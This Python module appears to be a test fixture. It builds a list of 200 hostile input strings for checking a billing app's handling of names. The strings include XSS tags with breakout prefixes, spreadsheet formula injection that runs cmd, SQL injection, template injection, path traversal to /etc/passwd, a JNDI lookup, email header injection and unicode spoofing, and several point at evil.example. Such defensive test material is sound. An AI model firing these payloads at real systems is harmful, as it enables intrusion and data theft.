"""Two hundred names that were made to hurt: markup that runs, formulas, templates, control characters, queries."""

from __future__ import annotations

from itertools import product

CALL = "hit()"
AWAY = "http://evil.example/x"

_SCRIPTS = [
    f"<script>{CALL}</script>",
    f"<script src={AWAY}></script>",
    f"<img src=x onerror={CALL}>",
    f"<img src={AWAY}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<body onload={CALL}>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}>",
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<style>@import '{AWAY}';</style>",
    f"<base href={AWAY}>",
    f"<form action={AWAY}><button>x</button></form>",
    f"<div hx-get={AWAY} hx-trigger=load>",
    f"<div hx-on:load={CALL}>",
    f"<math><mtext></mtext><script>{CALL}</script></math>",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
]
_OUT_OF = ["", '">', "'>", "</title>", "</textarea>", "-->", "*/</style>"]
"""What a payload writes first, to get out of where it was put."""

_OTHERS = [
    *("=1+1", '=HYPERLINK("http://evil.example")', "+1", "-1+1|cmd", "@SUM(1)", "\t=1+1", "|cmd", "=cmd|'/C calc'!A0"),
    *(
        "{{ 7*7 }}",
        "{% debug %}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "%(name)s %s %d",
        "{0.__class__}",
        "\\u003cscript\\u003e",
    ),
    *(
        "'; DROP TABLE bills_bill; --",
        "' OR '1'='1",
        "\\",
        "\\'",
        "%00",
        "../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
    ),
    *(
        "#set page(width: 1pt)",
        '#panic("stop")',
        '#read("/etc/passwd")',
        "$x^2$ *bold* `raw` <label>",
        "]]>",
        "&lt;&amp;&#60;",
    ),
    *(
        "a\r\nBcc: evil@evil.example",
        "a\nInjected: log line",
        "\x1b[2J\x1b]0;title\x07",
        "evil\u202egnp.exe",
        "\u200b\u2060\ufeff",
    ),
    *("Z" + "\u0310\u0320" * 100, "A" * 190, "🎉" * 60, "שלום", "ﷺ" * 30, "\ufdfd", "NaN", "null", "undefined", "true"),
]

PAYLOADS: list[str] = ([before + script for script, before in product(_SCRIPTS, _OUT_OF)] + _OTHERS)[-200:]
